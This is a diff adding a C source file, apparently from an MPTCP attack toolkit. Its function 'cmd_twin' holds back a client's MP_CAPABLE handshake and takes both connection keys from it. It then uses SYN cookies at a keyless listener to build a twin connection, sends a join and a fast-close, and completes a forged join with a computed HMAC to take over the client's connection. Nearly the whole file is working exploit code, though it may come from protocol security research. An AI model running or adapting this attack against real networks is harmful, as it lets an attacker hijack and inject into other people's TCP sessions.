@@ -1,0 +1,100 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/*
+ * With SYN cookies: the ACK that ends the client's first handshake is on its way for a while,
+ * as on a long path. In that time the attacker has a connection of their own with both its
+ * MPTCP keys, at a listener without a key, asks for a join to it, and ends it. When the
+ * client's connection is there, the ACK of that join is for this one.
+ */
+#include <stdio.h>
+#include <string.h>
+
+#include "attacker.h"
+
+#define CAPABLE_SYN_LEN 4
+#define FASTCLOSE_LEN 12
+
+/* via=ADDR of the listener without a key; path=1; ms=N that the ACK takes, at the least */
+bool cmd_twin(void)
+{
+	struct plan syn = { .flags = TH_SYN, .options_len = CAPABLE_SYN_LEN };
+	struct plan ack = { .flags = TH_ACK, .options_len = CAPABLE_ACK_LEN };
+	struct plan end = { .flags = TH_ACK, .options_len = FASTCLOSE_LEN };
+	int path = (int)arg_number("path", "1") - 1;
+	int64_t until = now_ms() + 20 * patience_ms, arrives;
+	uint8_t hmac[SHA256_DIGEST_LENGTH];
+	struct frame frame, held_frame;
+	struct attempt twin, attempt;
+	struct connection target;
+	struct segment segment;
+	uint8_t *capable;
+	uint32_t cookie;
+	enum answer answer;
+
+	fflush(stdout);
+	hold_firsts = true;
+	do {
+		if (!pump(until, false, &held_frame))
+			return false;
+		capable = parse_segment(&held_frame, &segment) ?
+				  find_mptcp(&segment, MP_CAPABLE) :
+				  NULL;
+	} while (!capable);
+	arrives = now_ms() + arg_number("ms", "300");
+	memset(&target, 0, sizeof(target));
+	target.ends[CLIENT] = segment.from;
+	target.ends[SERVER] = segment.to;
+	target.keys[CLIENT] = get64(capable + 4);
+	target.keys[SERVER] = get64(capable + 12);
+
+	/* The twin */
+	start_attempt(&twin, &target, &target, 0);
+	twin.to.addr = arg_addr("via", "0.0.0.0");
+	put_capable(syn.options, CAPABLE_SYN_LEN);
+	send_attempt(&twin, &syn);
+	do {
+		if (!next_segment(&twin, now_ms() + patience_ms, &frame,
+				  &segment)) {
+			printf(" twin=silent");
+			return true;
+		}
+	} while (!segment.tcp->syn);
+	cookie = segment.seq;
+	twin.seq++;
+	twin.peer_seq = cookie + 1;
+	put64(put64(put_capable(ack.options, CAPABLE_ACK_LEN),
+		    target.keys[CLIENT]),
+	      target.keys[SERVER]);
+	send_attempt(&twin, &ack);
+
+	/* A join to it, when it is there */
+	until = now_ms() + 50;
+	while (now_ms() < until)
+		pump(until, false, &frame);
+	start_attempt(&attempt, &target, &target, 1);
+	attempt.to.addr = twin.to.addr;
+	send_syn(&attempt);
+	answer = take_synack(&attempt);
+	printf(" syn=%s", answers[answer]);
+	end.options[0] = MPTCP_KIND;
+	end.options[1] = FASTCLOSE_LEN;
+	end.options[2] = MP_FASTCLOSE << 4;
+	put64(end.options + 4, target.keys[SERVER]);
+	send_attempt(&twin, &end);
+	while (now_ms() < arrives)
+		pump(arrives, false, &frame);
+	hold_firsts = false;
+	parse_segment(&held_frame, &segment);
+	learn_connection(path, CLIENT, &segment);
+	pass_segment(path, CLIENT, &held_frame, &segment);
+	if (answer != ANSWERED)
+		return true;
+
+	/* The client's connection is there soon */
+	until = now_ms() + patience_ms;
+	while (now_ms() < until)
+		pump(until, false, &frame);
+	join_hmac(target.keys[CLIENT], target.keys[SERVER],
+		  attempt.nonces[CLIENT], attempt.nonces[SERVER], hmac);
+	end_join(&attempt, &target, hmac);
+	return true;
+}
